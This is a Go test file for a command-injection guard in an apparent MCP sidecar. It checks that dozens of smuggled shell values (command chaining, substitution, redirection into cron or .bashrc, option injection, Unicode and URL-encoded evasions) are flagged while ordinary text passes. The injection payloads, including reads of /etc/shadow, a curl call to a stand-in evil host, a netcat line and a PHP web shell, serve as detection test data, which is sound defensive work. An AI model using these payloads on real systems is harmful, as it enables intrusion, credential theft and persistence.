package command

import (
	"strings"
	"testing"

	"mcp-sidecar/guards"
)

// What does harm as one argument, by the rule that says so.
var harmful = []struct{ rule, value string }{
	{RuleChain, "report.txt; sleep 10"}, {RuleChain, "report.txt && whoami"}, {RuleChain, "x || ping -c 10 127.0.0.1"}, {RuleChain, "x | base64 -d"}, {RuleChain, "x & timeout 5"}, {RuleChain, "x\nls -la"},
	{RuleChain, `x"; cat /etc/shadow; echo "`}, {RuleChain, `x' | id | '`}, {RuleChain, "x%26%26whoami"}, {RuleChain, "x%253Bid"}, {RuleChain, `x\x3bwhoami`}, {RuleChain, `x\u003bwhoami`}, {RuleChain, "x；whoami"}, {RuleChain, "x｜nc 10.0.0.1 4444"},
	{RuleChain, "x;/usr/local/bin/backdoor"}, {RuleChain, "x;./run.sh"}, {RuleChain, "x; A=1 B=2 bash"}, {RuleChain, "x|powershell -c dir"}, {RuleChain, "x & net user eve /add"}, {RuleChain, "x&&$0"}, {RuleChain, "| tee /tmp/out"}, {RuleChain, ";reboot"}, {RuleChain, "&& anything"},
	{RuleChain, "x%0Aid"}, {RuleChain, `x\nid`}, {RuleChain, "bash -i |"}, {RuleChain, "x; find / -name id_rsa"}, {RuleChain, "x;ID"}, {RuleChain, "x; sudo -l"}, {RuleSubstitution, "x;`whoami`"}, {RuleChain, "x; ca\\t /etc/passwd"},
	{RuleSubstitution, "$(sleep 5)"}, {RuleSubstitution, "a`id`b"}, {RuleSubstitution, "a$(cat</etc/passwd)b"}, {RuleSubstitution, "$(curl evil.example)"}, {RuleSubstitution, "$( < /etc/passwd )"}, {RuleSubstitution, "`uname -a`"}, {RuleSubstitution, "log $(echo $HOME)"},
	{RuleRedirection, "x > /etc/cron.d/job"}, {RuleRedirection, "x >> ~/.bashrc"}, {RuleRedirection, "x 2>&1"}, {RuleRedirection, "x < /etc/passwd"}, {RuleRedirection, "x > out.php"}, {RuleRedirection, "x >| ../index.html"}, {RuleRedirection, "cat</etc/passwd"},
	{RuleExpansion, "cat${IFS}/etc/passwd"}, {RuleExpansion, "${PATH:0:1}bin"}, {RuleExpansion, "$HOME/.ssh"}, {RuleExpansion, "{cat,/etc/passwd}"}, {RuleExpansion, "%COMSPEC%"}, {RuleExpansion, "%PROGRAMFILES:~10,-5%"}, {RuleExpansion, "p^i^n^g6 x"}, {RuleExpansion, "who$@ami"}, {RuleExpansion, `$'\x69\x64'`}, {RuleExpansion, "$((1+1))"},
	{RuleExpansion, "c''at /etc/passwd"}, {RuleExpansion, `wh\oami`}, {RuleExpansion, "/b?n/c?t /e?c/p?sswd"}, {RuleExpansion, "cat /etc/pass\\\nwd"},
	{RuleOption, "-oProxyCommand=touch /tmp/x"}, {RuleOption, "--upload-pack=id"}, {RuleOption, "--exec=id"}, {RuleOption, "-exec id"}, {RuleOption, "--output=/etc/cron.d/x"}, {RuleOption, "-e/bin/sh"}, {RuleOption, "-o/tmp/x"}, {RuleOption, "--checkpoint-action=exec=sh x.sh"}, {RuleOption, "--rcfile=/tmp/rc"}, {RuleOption, "--use-compress-program=id"}, {RuleOption, " --config=/tmp/evil.ini"}, {RuleOption, "-c bash"}, {RuleOption, "--post-file=/etc/passwd"}, {RuleOption, "−−exec=id"},
	{RuleCode, "system('id')"}, {RuleCode, `eval("x")`}, {RuleCode, "<?php passthru($_GET[0]);"}, {RuleCode, "() { :;}; echo x"}, {RuleCode, "__import__('os').system('id')"}, {RuleCode, "require('child_process')"},
}

// What is one argument and no more.
var harmless = []string{
	"", "report.txt", "two words", "2026-11-26", "-5", "-1.5e3", "- an item of a list", "—", "en-US", "user@example.com", "+1 555 0100", "C:\\Users\\ann\\notes.txt", `\\server\share`, "/var/log/app.log", "docs/intro.md#top", "https://example.com/search?q=a+b&lang=en", "https://example.com/a;b?x=1&sort=asc",
	"Tom & Jerry", "R&D budget", "salt & pepper", "Q&A", "fish & chips; peas", "one; two; three", "red|green|blue", "a || b", "x && y", "if (x < 10 && y > 3) return;", "x -> y", "x => y", "old.txt -> new.txt", "map => ./dist", "a <= b", "<b>bold</b>", "</div>", "<name> <surname>", "List<String>", "5 > 3", "price > 100", "costs $5", "$20 off", "US$ 30", "100%", "50% of 20%", "{a, b}", "{\"a\": 1}", "${name}", "{{ title }}",
	"SELECT a, b FROM t WHERE c > 3;", "UPDATE t SET a = 1; COMMIT;", "Don't worry, it's fine", "O'Reilly", `say "hello"`, "the `name` field of the object", "Run `git status` to see what has changed in your folder.", "Use the `id` attribute, or leave it out.", "print(\"hello\")", "print('x')", "evaluate(x)", "f(x) = x^2", "2^10", "a^b", "What is this?", "[x] done", "*.txt", "**bold**", "# heading", "C# developer", "~ 5 km", "Wait; what?", "Find the file; then open it.", "First, make a copy; next, sort the names.", "time & space", "cats & dogs", "more | less", "head & shoulders", "date; time; place",
	"Content-Type: text/html; charset=utf-8", "a=1; b=2", "text/plain;q=0.5", "path=/; HttpOnly; Secure", "Dear Ann,\nfind the report attached.\nBest, Ben", "Line one\nLine two\n\nLine four", "- milk\n- bread", "| name | size |\n|-|-|\n| a | b |", "&nbsp;", "AT&amp;T", "git commit -m message", "docker run --rm image", "curl https://example.com/", "ls -la /tmp", "tar czf backup.tgz folder", "grep -r pattern src", "--", "--help", "--oneline", "-v", "-n 5", "--max-count=5", "--since=2026-01-01",
	"日本語の文章。", "¿Qué tal? ¡Bien!", "Füße & Hände", "a…b", "naïve café", "😀 ok", "func main() { fmt.Println(1) }", "x = y ? 1 : 0", "1 < 2 && 2 < 3", "a & b | c", "cut here; glue there", "kill two birds; with one stone", "host a party & make a cake",
}

func TestExamine(t *testing.T) {
	for _, row := range harmful {
		found := Examine(row.value)
		if len(found) == 0 || !has(found, row.rule) {
			t.Errorf("%q: %+v, want %s", row.value, found, row.rule)
		}
		check(t, row.value, found)
		// In front of it what one would expect, and behind it.
		if row.rule != RuleOption && row.rule != RuleCode {
			if found := Examine("report " + row.value); len(found) == 0 && strings.IndexByte("|&;", row.value[0]) < 0 && row.value != "bash -i |" {
				t.Errorf("%q behind a word: nothing", row.value)
			}
		}
	}
	for _, value := range harmless {
		if found := Examine(value); found != nil {
			t.Errorf("%q: %+v", value, found)
		}
	}
}

func has(found []guards.Finding, rule string) bool {
	for _, f := range found {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

func check(t *testing.T, value string, found []guards.Finding) {
	t.Helper()
	end := 0
	for _, f := range found {
		if f.Start < end || f.End <= f.Start || f.End > len(value) || f.Guard != Name || f.Label != Name+":"+f.Rule || f.Score != 1 {
			t.Fatalf("%+v behind %d in %q", f, end, value)
		}
		end = f.End
	}
}

// A value that is too long is not looked at, and not let through for that.
func TestExamineBudget(t *testing.T) {
	if found := Examine(strings.Repeat("a", MaxFree+1)); !has(found, RuleBudget) {
		t.Errorf("%+v", found)
	}
	if found := Examine(strings.Repeat("a", MaxFree)); found != nil {
		t.Errorf("%+v", found)
	}
}

// Twice as long a value is twice the work, whatever it is made of.
func TestExamineIsLinear(t *testing.T) {
	for _, unit := range []string{"$(", "`", "` ", "a `b` ", "${", "{a,", "%a", "a^", ">a", "<", "'a", "&", ";", "|a", "\\n", "%25", "((", "$'", "-", "a\\", "/?", "＆", "A=1 ", ";A=1 "} {
		_, small := examine(strings.Repeat(unit, 20_000/len(unit)))
		_, large := examine(strings.Repeat(unit, 40_000/len(unit)))
		if large > 2*small+small/4+4*reach {
			t.Errorf("%q: %d, then %d", unit, small, large)
		}
	}
}

// FuzzExamine: findings are inside the value, and plain words are never any.
func FuzzExamine(f *testing.F) {
	for _, row := range harmful {
		f.Add(row.value)
	}
	for _, value := range harmless {
		f.Add(value)
	}
	f.Fuzz(func(t *testing.T, value string) {
		found := Examine(value)
		check(t, value, found)
		plain := strings.Trim(value, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._/ ") == ""
		if plain && found != nil && len(value) <= MaxFree {
			t.Fatalf("%q: %+v", value, found)
		}
	})
}
